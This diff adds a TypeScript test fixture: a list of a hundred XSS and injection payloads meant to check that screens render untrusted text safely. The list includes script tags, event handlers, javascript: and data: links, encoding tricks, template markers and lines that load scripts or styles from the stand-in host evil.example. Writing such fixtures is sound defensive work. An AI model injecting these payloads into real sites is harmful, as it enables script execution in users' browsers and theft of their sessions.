@@ -1,0 +1,60 @@
+/** Texts that would run, or hide, if any screen took them for more than text. Each sets `__pwned` or opens a dialog. */
+
+const RUN = 'window.__pwned=1'
+const TAGS = ['img', 'svg', 'body', 'video', 'audio', 'iframe', 'input', 'details', 'marquee', 'object']
+const EVENTS = ['onerror', 'onload', 'onfocus', 'onmouseover', 'ontoggle', 'onclick']
+const SCHEMES = [
+  `javascript:${RUN}`,
+  `JaVaScRiPt:${RUN}`,
+  `java\tscript:${RUN}`,
+  `javascript://example.org/%0a${RUN}`,
+  ` javascript:${RUN}`,
+  `data:text/html,<script>top.${RUN.slice(7)}</script>`,
+  `vbscript:${RUN}`,
+  `blob:javascript:${RUN}`,
+]
+
+/** Script tags, event handlers, links, entities, bidirectional controls and the marks of template languages: a hundred. */
+export const PAYLOADS: readonly string[] = [
+  `<script>${RUN}</script>`,
+  `<script>alert(1)</script>`,
+  `</script><script>${RUN}</script>`,
+  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
+  `<script src="https://evil.example/x.js"></script>`,
+  `<link rel="stylesheet" href="https://evil.example/x.css">`,
+  `<style>@import "https://evil.example/x.css";</style>`,
+  `<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
+  `<base href="https://evil.example/">`,
+  `<form action="https://evil.example/"><button autofocus>x</button></form>`,
+  `"><iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>`,
+  `<svg><script>${RUN}</script></svg>`,
+  `<svg><animate onbegin="${RUN}" attributeName="x" dur="1s"/></svg>`,
+  `<math><mtext><style><img src=x onerror=${RUN}></style></mtext></math>`,
+  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
+  `<!--><img src=x onerror=${RUN}>-->`,
+  `<![CDATA[<script>${RUN}</script>]]>`,
+  `<template><img src=x onerror=${RUN}></template>`,
+  `' onmouseover='${RUN}' x='`,
+  `" autofocus onfocus="${RUN}" x="`,
+  `&lt;script&gt;${RUN}&lt;/script&gt;`,
+  `&#60;img src=x onerror=${RUN}&#62;`,
+  `&amp;lt;b&amp;gt;`,
+  `%3Cscript%3E${RUN}%3C/script%3E`,
+  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
+  `{{constructor.constructor("${RUN}")()}}`,
+  `\${${RUN}}`,
+  `#{${RUN}}`,
+  `<%= ${RUN} %>`,
+  `[[${RUN}]]`,
+  `{%raw%}${RUN}{%endraw%}`,
+  `__proto__`,
+  `constructor`,
+  `[x](javascript:${RUN})`,
+  `![x](https://evil.example/x.png)`,
+  `\u202e<b onmouseover=${RUN}>\u202c`,
+  `\u2066${RUN}\u2069\u200f`,
+  `\u200b<script>\u200b${RUN}</script>`,
+  ...SCHEMES,
+  ...SCHEMES.map((scheme) => `<a href="${scheme}">x</a>`),
+  ...TAGS.flatMap((tag) => EVENTS.map((event) => `<${tag} src=x tabindex=1 autofocus ${event}="${RUN}">`)),
+].slice(0, 100)
